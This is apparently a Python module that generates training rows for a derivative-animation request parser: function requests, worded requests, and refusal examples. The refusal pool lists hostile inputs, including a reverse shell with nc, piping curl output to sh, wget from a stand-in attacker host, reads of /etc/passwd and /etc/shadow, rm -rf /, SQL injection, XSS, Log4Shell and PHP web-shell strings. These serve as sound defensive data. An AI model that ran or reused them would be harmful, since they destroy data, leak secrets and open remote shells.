"""The slots adapter's training data: the scene corpus's requests, requests that say the function in words, and
requests to refuse (issue 12).

    derivanim data slots --corpus runs/corpus-paraphrase -o runs/slots-corpus

- corpus rows: every row of a built corpus (its instruction and slots), as today's adapter learnt them.
- words rows: each corpus function that derivanim.verbalise can say, in a request that says it in words ('Animate
  the derivative of the natural log of cosine x'); the slots are the row's, with the function as the catalog writes
  it in x. A function's words go to the split its row is in, so test-split words are of functions never trained on.
- refusal rows: requests with no function to differentiate (code, markup and commands; other subjects; mathematics
  that is not a derivative; derivative talk without a function), answered {"function":null,"reason":...}.
  Generated from the parts below; the 50 off-topic requests of data/requests/off_topic.txt, written separately,
  are held out for the benchmark and never generated here (a test checks).
"""

import json
import random
from collections.abc import Iterable
from pathlib import Path

from derivanim.render import write_atomically
from derivanim.slots import REFUSALS

SPLITS = ("train", "val", "test")
WORDINGS_PER_FUNCTION = {"train": 2, "val": 1, "test": 1}  # two ways of saying each training function
WORD_FORMATS = [
    "Animate the derivative of {words}",
    "Show me how to differentiate {words}",
    "derivative of {words}, please",
    "Make a video about the slope of {words}",
    "Can you visualize the derivative of {words}?",
    "I'd like an animation of {words} and its derivative",
    "Differentiate {words} step by step in an animation",
    "Explain the derivative of the function {words}",
    "For my students: the derivative of {words}",
    "What is the rate of change of {words}? Animate it.",
    "{words}",  # short requests: 'one over x' alone must not read as 'no function'
    "find the derivative of {words}",
    "d/dx of {words}",
    "slope of {words}?",
    "differentiate {words} for me",
    "Graph {words} together with its derivative",  # verbs that other mathematics also uses
    "Find the slope of the tangent line to {words} and animate it",
]
FILES = {split: f"{split}.jsonl" for split in SPLITS}

# Refusals, by reason: (format, {slot: choices}) pairs; every combination is a request.
CODE_PARTS = {
    "command": ["rm -rf /", "cat /etc/passwd", "curl http://example.com/x.sh | sh", "shutdown -h now",
                "wget evil.example/payload", "chmod 777 /", "ls -la ~", "echo hacked > /tmp/x", "sudo su",
                "nc -e /bin/sh 10.0.0.1 4444", "python3 -c 'print(1)'", "mkfifo /tmp/f"],
    "python": ["__import__('os').system('{command}')", "open('/etc/shadow').read()", "import subprocess; "
               "subprocess.run('{command}', shell=True)", "exec(input())", "eval('__import__(\"os\")')",
               "print(globals())", "os.remove('notes.txt')", "import socket; socket.socket()",
               "[c for c in ().__class__.__base__.__subclasses__()]", "lambda: __builtins__"],
    "markup": ["\\input{{/etc/hosts}}", "\\immediate\\write18{{{command}}}", "\\documentclass{{article}}",
               "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "DROP TABLE students; --",
               "' OR '1'='1", "{{{{ config.items() }}}}", "${{jndi:ldap://example.com/a}}",
               "\\begin{{document}}\\end{{document}}", "<?php system($_GET['c']); ?>"],
}
CODE_FORMATS = ["{python}", "{markup}", "{command}", "derivative of {python}", "Animate {markup}",
                "run this: {command}", "please execute {python}", "differentiate {markup}"]

SUBJECTS = ["the French Revolution", "photosynthesis", "the water cycle", "Shakespeare's sonnets", "plate tectonics",
            "the Roman Empire", "supply and demand", "the immune system", "jazz history", "climate change",
            "the printing press", "volcanoes", "the Cold War", "DNA replication", "the Renaissance"]
OFF_TOPIC_FORMATS = ["Write an essay about {subject}", "Make an animation about {subject}",
                     "Summarize {subject} in three sentences", "Explain {subject} to a ten-year-old",
                     "Create a quiz on {subject}", "Give me a lesson plan on {subject}",
                     "What's a good book about {subject}?", "Draw a diagram of {subject}"]
SMALL_TALK = ["hello", "thanks!", "who are you?", "tell me a joke", "what time is it", "good morning",
              "Translate 'good night' into German", "recommend a movie for tonight", "How do I bake bread?",
              "What's the weather like in Paris?", "write a haiku about the sea", "ok", "asdf qwer zxcv",
              "Book a table for two at eight", "What is the capital of Canada?", "play some music"]

OTHER_MATH = {  # requests that write a function but ask for something other than its derivative, casual and formal
    "task": [
        # integrals, areas, volumes, lengths
        "Integrate {f}", "integral of {f}?", "Find the integral of {f} from 0 to 1",
        "Compute the definite integral of {f} on [0, 2]", "Evaluate the integral of {f} dx from 1 to 3",
        "What is the antiderivative of {f}?", "Find an antiderivative of {f}", "antiderivative of {f} pls",
        "I need the primitive of {f}", "Integrate {f} by parts", "Integrate {f} with a substitution",
        "Integrate {f} from -1 to 1 and explain", "∫ {f} dx = ?", "Compute the area under {f} between 0 and 2",
        "Shade the area under {f} from 0 to 1", "How big is the area under y = {f} from 1 to 2?",
        "Find the area between {f} and the x-axis", "Find the area enclosed by y = {f} and y = {g}",
        "What area lies between {f} and {g} on [0, 1]?",
        "Find the volume when y = {f} is rotated about the x-axis on [0, 1]", "Find the arc length of {f} from 0 to 1",
        "Riemann sum of {f} with 4 rectangles on [0, 2]", "Find the average value of {f} on [0, 1]",
        "Animate the area under {f} filling up",
        # equations and inequalities
        "Solve {f} = 0", "Solve {f} = 4 for x", "For which x is {f} = 1?", "solve for x: {f} = 3",
        "At what x is {f} equal to 5?", "Find the roots of {f}", "Find the zeros of {f}",
        "Where does {f} cross the x-axis?", "How many real roots does {f} have?", "Solve the inequality {f} > 0",
        "For which x is {f} < 2?", "Where is {f} positive?", "Find where {f} and {g} intersect", "Solve {f} = {g}",
        # algebra
        "Factor {f}", "Factorise {f} completely", "factor {f} pls", "Write {f} in factored form",
        "Complete the square in {f}", "Expand {f}", "Multiply out {f}", "Simplify {f}",
        "Simplify {f} as far as possible", "Divide {f} by x - 1", "What is the remainder of {f} divided by x + 2?",
        "Rationalise {f}",
        # limits and series
        "Find the limit of {f} as x goes to infinity", "What is the limit of {f} as x approaches 0?", "lim x->2 of {f}",
        "Is {f} continuous at x = 0?", "Find the Taylor series of {f}",
        "Write the Maclaurin polynomial of {f} to degree 3", "First four terms of the power series of {f}",
        "Expand {f} in a series around x = 1", "Give the Fourier series of {f} on [-pi, pi]",
        "Find the Laplace transform of {f}",
        # the function's other properties
        "Plot {f} without any derivative", "Just graph {f}, no calculus", "Sketch y = {f} only",
        "Evaluate {f} at x = 3", "What is {f} when x = 2?", "Plug x = -1 into {f}",
        "List values of {f} for x from 0 to 5", "Find the inverse function of {f}", "Find the domain of {f}",
        "What is the range of {f}?", "Where is {f} defined?", "Is {f} even, odd or neither?", "Is {f} one-to-one?",
        "Find the y-intercept of {f}", "Find the x-intercepts of {f}",
        "Does {f} have a vertical asymptote?", "Compose {f} with {g}", "Shift {f} up by 2 and graph it",
        "Reflect y = {f} in the x-axis", "Is {f} a polynomial?",
    ],
    "f": ["x^2", "sin(x)", "3x + 1", "e^x", "x^3 - x", "ln(x)", "cos(2x)", "x^2 - 4", "x^2 + 3x + 2", "2x - 7",
          "x^3 + 1", "tan(x)", "x*e^x", "sin(2x)", "1/(x + 1)", "x^4 - 1", "cos(x) + 1", "5x^2 - 2x + 8",
          "x*sin(x)", "e^(3x)", "(x + 2)^2", "(x - 1)(x + 5)", "x^3 - 4x^2 + x + 6", "sqrt(x + 4)", "2^x",
          "1/(x^2 + 1)", "ln(x + 2)", "x/(x - 2)", "(2x - 1)/(x + 3)", "7 - 3x", "x^5 + 2x", "cos(x)^2",
          "e^(-2x)", "x^2*ln(x)", "|x - 1|", "3sin(x) + 2", "x^6 - 2x^3", "sqrt(9 - x^2)", "10x - x^2"],
}
OTHER_MATH_EXTRA = ["What is 17 times 23?", "Prove that the square root of 2 is irrational",
                    "Solve the system x + y = 3, x - y = 1", "What is the probability of two sixes?",
                    "Compute the determinant of [[1, 2], [3, 4]]", "Find the mean of 3, 5 and 10",
                    "Is 97 a prime number?", "Convert 3/8 to a percentage", "How many degrees are in a triangle?",
                    "Find the eigenvalues of a 2 by 2 rotation matrix", "integrate x squared",
                    "what's the integral of sine x", "area under one over x from one to two", "solve x squared equals 9",
                    "factor x squared minus one", "limit of sine x over x as x goes to zero",
                    "What is the area of a circle of radius 4?", "Find the hypotenuse of a 5-12 triangle",
                    "Sum the series 1 + 1/2 + 1/4 + ...", "Solve 2x + 5 = 11", "What is log base 2 of 32?",
                    "Simplify 12/18", "What is the volume of a cone with radius 2 and height 6?"]
NO_FUNCTION = ["Explain the power rule", "Teach the chain rule", "What is a derivative?", "Make an animation",
               "Animate a derivative", "Show me the product rule", "Explain the quotient rule with an example",
               "Why does a tangent line touch a curve?", "What is the slope of a curve?", "Teach me calculus",
               "Animate the definition of the derivative", "How do secant lines become tangent lines?",
               "derivative please", "Differentiate it", "Make a derivative video for my class",
               "Show the derivative of a function", "What's the difference between a secant and a tangent?",
               "Explain implicit differentiation", "Give me an example of a derivative",
               "Animate the derivative of my function", "Explain the constant multiple rule",
               "how do derivatives work", "What is an instantaneous rate of change?", "I need a calculus video",
               "What are the rules of differentiation?", "Teach related rates", "Show why the derivative is a limit",
               "Make a video on the quotient rule for tomorrow's class", "Animate differentiation",
               "Which functions are differentiable?", "What does a negative derivative mean?",
               "Explain L'Hopital's rule", "Show me how the slope changes along a curve",
               "Give my students a derivative animation"]


def refusal_requests() -> dict[str, list[str]]:
    """Every generated request to refuse, by reason (duplicates removed, in a fixed order)."""
    commands = CODE_PARTS["command"]
    code = [fmt.format(command=c, python=p.format(command=c) if "{command}" in p else p, markup=m.format(command=c))
            for fmt in CODE_FORMATS for c in commands
            for p in CODE_PARTS["python"][:4] for m in CODE_PARTS["markup"][:3]]
    code += [p.format(command=c) for p in CODE_PARTS["python"] for c in commands]
    code += [m.format(command=c) for m in CODE_PARTS["markup"] for c in commands]
    code += commands
    off_topic = [fmt.format(subject=s) for fmt in OFF_TOPIC_FORMATS for s in SUBJECTS] + SMALL_TALK
    functions = OTHER_MATH["f"]  # a second function, where a task has one, is the one seven places on
    other_math = [task.format(f=f, g=functions[(i + 7) % len(functions)]) for task in OTHER_MATH["task"]
                  for i, f in enumerate(functions)] + OTHER_MATH_EXTRA
    found = {"code": code, "off-topic": off_topic, "not-derivative": other_math, "no-function": NO_FUNCTION}
    assert set(found) == set(REFUSALS)
    return {reason: list(dict.fromkeys(requests)) for reason, requests in found.items()}


# Reasons in turn, "not-derivative" three times as often: a request that writes a function and asks for its integral
# or roots is the refusal the grammars cannot tell from a derivative request, so the model must learn it.
REASON_TURNS = ["code", "not-derivative", "off-topic", "not-derivative", "no-function", "not-derivative"]


def refusal_rows(counts: dict[str, int], seed: int) -> list[dict]:
    """`counts[split]` refusal rows per split, the reasons in REASON_TURNS's proportions (until a reason's pool runs
    out), drawn without repeats across splits."""
    rng = random.Random(f"refusals-{seed}")
    pools = {reason: rng.sample(requests, len(requests)) for reason, requests in refusal_requests().items()}
    assert set(REASON_TURNS) == set(pools)
    rows, taken = [], dict.fromkeys(pools, 0)
    for split in SPLITS:
        for i in range(counts[split]):
            reason = REASON_TURNS[i % len(REASON_TURNS)]
            pool = pools[reason]
            if taken[reason] >= len(pool):
                continue
            rows.append({"split": split, "kind": "refusal", "instruction": pool[taken[reason]], "slots": None,
                         "refusal": reason})
            taken[reason] += 1
    return rows


def words_rows(corpus_rows: Iterable[dict], seed: int) -> list[dict]:
    """A request in words for every corpus function that can be said, in the split of its row."""
    from derivanim.grammar import parse_function
    from derivanim.verbalise import wordings

    rows = []
    for index, row in enumerate(corpus_rows):
        function = row["function"]
        rng = random.Random(f"words-{seed}-{index}")
        for words in wordings(parse_function(function).expr, WORDINGS_PER_FUNCTION[row["split"]], f"{seed}-{index}"):
            slots = {**row["slots"], "function": function, "variable": "x", "name": "f"}
            rows.append({"split": row["split"], "kind": "words", "instruction": rng.choice(WORD_FORMATS).format(
                words=words), "slots": slots})
    return rows


def build_slots_corpus(corpus_dir: Path, seed: int = 0) -> list[dict]:
    """All rows: the corpus's, its functions in words, and refusals (a third as many as the others per split)."""
    from derivanim.corpus import load_corpus

    corpus = [{"split": row.split, "kind": "corpus", "instruction": row.instruction, "function": row.function,
               "slots": row.slots.model_dump()} for row in load_corpus(corpus_dir)]
    words = words_rows(corpus, seed)
    for row in corpus:
        del row["function"]
    per_split = {split: sum(row["split"] == split for row in corpus + words) for split in SPLITS}
    refusals = refusal_rows({split: count // 3 for split, count in per_split.items()}, seed)
    rows = corpus + words + refusals
    return sorted(rows, key=lambda row: SPLITS.index(row["split"]))


def write_slots_corpus(rows: list[dict], out_dir: Path) -> dict[str, int]:
    """train/val/test.jsonl in `out_dir`; returns rows per kind and split."""
    out_dir.mkdir(parents=True, exist_ok=True)
    counts = {}
    for split in SPLITS:
        chosen = [row for row in rows if row["split"] == split]
        text = "".join(json.dumps(row, ensure_ascii=False) + "\n" for row in chosen)
        path = out_dir / FILES[split]
        write_atomically(path, text)
        for row in chosen:
            counts[f"{split} {row['kind']}"] = counts.get(f"{split} {row['kind']}", 0) + 1
    return counts
